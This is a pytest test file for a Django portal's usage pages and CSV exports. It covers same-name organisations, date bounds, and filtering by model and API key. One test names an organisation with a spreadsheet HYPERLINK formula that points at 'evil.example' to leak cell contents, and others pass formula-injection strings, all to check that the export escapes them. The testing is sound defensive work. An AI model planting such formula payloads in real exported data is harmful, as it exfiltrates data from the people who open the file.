"""The usage pages and their CSV exports: who is counted, which dates are accepted, which filters apply."""

import csv
import io
import uuid
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone

from apiservice.models import APIKey, Organisation
from apiservice.services import api_key_create, organisation_get_or_create
from billing.models import UsageRecord
from models_registry.models import ModelVersion
from portal.services import usage_rollup_refresh

from .conftest import record_calls


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def _totals(chart: dict[str, Any]) -> dict[str, float]:
    return {dataset["label"]: sum(dataset["data"]) for dataset in chart["datasets"]}


# --- Organisations that share a name ---------------------------------------------------------------


@pytest.fixture
def namesakes(db: Any) -> tuple[Organisation, Organisation]:
    """Two organisations named "Acme Corp": names need not be unique, slugs are."""
    return (
        organisation_get_or_create(name="Acme Corp", slug="acme-corp"),
        organisation_get_or_create(name="Acme Corp", slug="acme-corp-2"),
    )


def test_it_charts_organisations_with_the_same_name_as_separate_series(
    staff_client: Client, namesakes: tuple[Organisation, Organisation], iris: ModelVersion
) -> None:
    first, second = namesakes
    record_calls(first, iris, 1)
    record_calls(second, iris, 2)
    d = staff_client.get("/staff/").context["d"]
    expected = {"Acme Corp (acme-corp)": 1, "Acme Corp (acme-corp-2)": 2}
    assert _totals(d["calls_by_org"]) == expected
    assert _totals(d["units_by_org"]) == expected
    assert [(c["organisation_id"], c["label"], c["calls"]) for c in d["top_customers"]] == [
        (second.pk, "Acme Corp (acme-corp-2)", 2),
        (first.pk, "Acme Corp (acme-corp)", 1),
    ]


def test_it_tells_organisations_with_the_same_name_apart_in_the_staff_selects(
    staff_client: Client, namesakes: tuple[Organisation, Organisation]
) -> None:
    first, second = namesakes
    for path in ("/staff/", "/staff/models/"):  # the Organisation filter, the upload's Owner
        page = staff_client.get(path).content.decode()
        assert f'<option value="{first.pk}">Acme Corp (acme-corp)</option>' in page
        assert f'<option value="{second.pk}">Acme Corp (acme-corp-2)</option>' in page


def test_it_exports_organisations_with_the_same_name_as_separate_rows(
    staff_client: Client, namesakes: tuple[Organisation, Organisation], iris: ModelVersion
) -> None:
    first, second = namesakes
    record_calls(first, iris, 1)
    record_calls(second, iris, 2)
    rows = _csv(staff_client.get("/staff/usage/export.csv"))
    assert sorted((r["organisation"], r["calls"]) for r in rows) == [
        ("Acme Corp (acme-corp)", "1"),
        ("Acme Corp (acme-corp-2)", "2"),
    ]


# --- Dates the pages refuse -------------------------------------------------------------------------

FAR_DATES = [{"end": "9999-12-31"}, {"end": "0001-01-01"}, {"start": "0001-01-01"}, {"start": "9999-12-31"}]
OUT_OF_BOUNDS = "Choose a day between 2000-01-01 and 9998-12-31."
BACKWARDS = {"start": "2026-02-01", "end": "2026-01-01"}


def _as(path: str, owner_client: Client, staff_client: Client) -> Client:
    return staff_client if path.startswith("/staff/") else owner_client


@pytest.mark.parametrize("dates", FAR_DATES)
@pytest.mark.parametrize("path", ["/portal/usage/", "/staff/"])
def test_it_explains_a_day_too_far_in_the_past_or_future_on_the_usage_pages(
    owner_client: Client, staff_client: Client, path: str, dates: dict[str, str]
) -> None:
    response = _as(path, owner_client, staff_client).get(path, dates)
    assert response.status_code == 200
    assert OUT_OF_BOUNDS in response.content.decode()
    assert len(response.context["flt"].days) == 30  # the default range is drawn meanwhile


@pytest.mark.parametrize(
    ("dates", "problem"), [*((dates, OUT_OF_BOUNDS) for dates in FAR_DATES), (BACKWARDS, "'From' must be on")]
)
@pytest.mark.parametrize("path", ["/portal/usage/export.csv", "/staff/usage/export.csv"])
def test_it_refuses_to_export_a_range_it_cannot_use(
    owner_client: Client, staff_client: Client, path: str, dates: dict[str, str], problem: str
) -> None:
    response = _as(path, owner_client, staff_client).get(path, dates)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert problem in response.content.decode()


def test_it_accepts_the_first_and_last_days_it_allows(owner_client: Client) -> None:
    first = owner_client.get("/portal/usage/", {"start": "2000-01-01", "end": "2000-01-31"})
    last = owner_client.get("/portal/usage/export.csv", {"start": "9998-12-01", "end": "9998-12-31"})
    assert len(first.context["flt"].days) == 31
    assert _csv(last) == []


# --- The model filter -------------------------------------------------------------------------------


def test_it_exports_only_the_calls_to_the_chosen_model(
    owner_client: Client, org: Organisation, iris: ModelVersion, diabetes: ModelVersion
) -> None:
    record_calls(org, iris, 2)
    record_calls(org, diabetes, 1)
    everything = _csv(owner_client.get("/portal/usage/export.csv"))
    chosen = _csv(owner_client.get("/portal/usage/export.csv", {"model": diabetes.model_id}))
    assert sorted(r["model"] for r in everything) == ["diabetes", "iris", "iris"]
    assert [r["model"] for r in chosen] == ["diabetes"]


def test_it_links_the_export_with_the_pages_filter(owner_client: Client, iris: ModelVersion, org: Organisation) -> None:
    page = owner_client.get("/portal/usage/", {"model": iris.model_id}).content.decode()
    assert f'href="/portal/usage/export.csv?model={iris.model_id}&amp;portal_organisation={org.pk}"' in page


@pytest.mark.parametrize("path", ["/portal/usage/", "/staff/"])
def test_it_offers_no_export_link_while_the_filter_is_invalid(
    owner_client: Client, staff_client: Client, path: str
) -> None:
    """The link's download of a 400 fails silently in the browser: the page says what to fix instead."""
    page = _as(path, owner_client, staff_client).get(path, BACKWARDS).content.decode()
    assert "export.csv" not in page
    assert "Fix the filter to export." in page
    assert "export.csv" in _as(path, owner_client, staff_client).get(path).content.decode()


def test_a_top_customer_link_keeps_the_pages_dates_and_model(
    staff_client: Client, org: Organisation, iris: ModelVersion
) -> None:
    record_calls(org, iris)
    today, model = timezone.localdate(), iris.model_id
    page = staff_client.get("/staff/", {"start": today, "end": today, "model": model}).content.decode()
    assert f'href="?start={today}&amp;end={today}&amp;model={model}&amp;organisation={org.pk}"' in page


# --- Filtering by API key ------------------------------------------------------------------------


@pytest.fixture
def two_keys(org: Organisation, iris: ModelVersion) -> tuple[APIKey, APIKey]:
    """`backend` made 2 calls, one yesterday (already rolled up), one today; `batch jobs` made 1 today."""
    backend, _ = api_key_create(organisation=org, name="backend", scopes=["predict"])
    jobs, _ = api_key_create(organisation=org, name="batch jobs", scopes=["predict"])
    now = timezone.now()
    for key, when in [(backend, now - timedelta(days=1)), (backend, now), (jobs, now)]:
        record_calls(org, iris, api_key=key, units=3, created_at=when)
    usage_rollup_refresh()
    return backend, jobs


def test_it_shows_the_usage_of_one_api_key(owner_client: Client, two_keys: tuple[APIKey, APIKey]) -> None:
    backend, _ = two_keys
    yesterday = timezone.localdate() - timedelta(days=1)
    response = owner_client.get("/portal/usage/", {"key": backend.prefix, "start": yesterday})
    assert response.context["d"]["totals"] == {"calls": 2, "units": 6, "errors": 0}
    assert f'<option value="{backend.prefix}" selected>backend ({backend.prefix})</option>' in response.content.decode()


def test_it_exports_the_calls_of_one_api_key(owner_client: Client, two_keys: tuple[APIKey, APIKey]) -> None:
    _, jobs = two_keys
    rows = _csv(owner_client.get("/portal/usage/export.csv", {"key": jobs.prefix}))
    assert [row["api_key"] for row in rows] == [jobs.prefix]


def test_it_offers_no_key_of_another_organisation(owner_client: Client, other_org: Organisation) -> None:
    theirs, _ = api_key_create(organisation=other_org, name="theirs", scopes=["predict"])
    response = owner_client.get("/portal/usage/", {"key": theirs.prefix})
    assert "key" in response.context["form"].errors
    assert f'<option value="{theirs.prefix}"' not in response.content.decode()
    assert owner_client.get("/portal/usage/export.csv", {"key": theirs.prefix}).status_code == 400


def test_the_latest_calls_follow_the_key_and_model_filter(
    owner_client: Client, org: Organisation, two_keys: tuple[APIKey, APIKey], diabetes: ModelVersion
) -> None:
    _, jobs = two_keys
    record_calls(org, diabetes)  # no key, another model
    for path in ("/portal/usage/", "/portal/usage/calls/"):  # the page, and its *Refresh*
        calls = owner_client.get(path, {"key": jobs.prefix}).context["calls"]
        assert [c.api_key_id for c in calls] == [jobs.pk]
        calls = owner_client.get(path, {"model": diabetes.model_id}).context["calls"]
        assert [c.model_version_id for c in calls] == [diabetes.pk]
    page = owner_client.get("/portal/usage/", {"key": jobs.prefix}).content.decode()
    assert f'hx-get="/portal/usage/calls/?key={jobs.prefix}"' in page


# --- Spreadsheet formulas in exported text ---------------------------------------------------------


def test_the_staff_export_never_hands_a_spreadsheet_a_customers_formula(
    staff_client: Client, iris: ModelVersion
) -> None:
    """An organisation named like a formula would run in the spreadsheet of the staff member who opens it."""
    evil = organisation_get_or_create(name='=HYPERLINK("http://evil.example/?"&A2,"open")', slug="evil")
    record_calls(evil, iris)
    rows = _csv(staff_client.get("/staff/usage/export.csv"))
    assert [row["organisation"] for row in rows] == ["'" + '=HYPERLINK("http://evil.example/?"&A2,"open") (evil)']
    assert rows[0]["calls"] == "1"  # numbers stay numbers


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_call_export_never_hands_a_spreadsheet_a_callers_formula(
    owner_client: Client, org: Organisation, iris: ModelVersion, text: str
) -> None:
    record_calls(org, iris, client_request_id=text)  # text in the ledger, however it got there
    (row,) = _csv(owner_client.get("/portal/usage/export.csv"))
    assert row["client_request_id"] == "'" + text
    assert row["units"] == "1"


def test_a_version_without_latency_reads_a_dash_not_a_dash_in_milliseconds(
    owner_client: Client, org: Organisation
) -> None:
    UsageRecord.objects.create(  # GET /v1/models: a call with no model and no prediction
        request_id="req_" + uuid.uuid4().hex, organisation=org, face="metadata", units=0, status_code=200
    )
    page = owner_client.get("/portal/usage/").content.decode()
    assert "(no model)" in page
    assert "— ms" not in page


def test_the_staff_charts_data_tables_count_calls_in_whole_numbers(
    staff_client: Client, namesakes: tuple[Organisation, Organisation], iris: ModelVersion
) -> None:
    record_calls(namesakes[0], iris, 3)
    page = staff_client.get("/staff/")
    for chart in ("calls_by_org", "units_by_org", "calls_by_version", "units_by_version"):
        assert 3 in page.context["d"][chart]["datasets"][0]["data"]
        assert all(type(v) is int for ds in page.context["d"][chart]["datasets"] for v in ds["data"])
    assert "<td>3.0</td>" not in page.content.decode()
    assert "<td>3</td>" in page.content.decode()
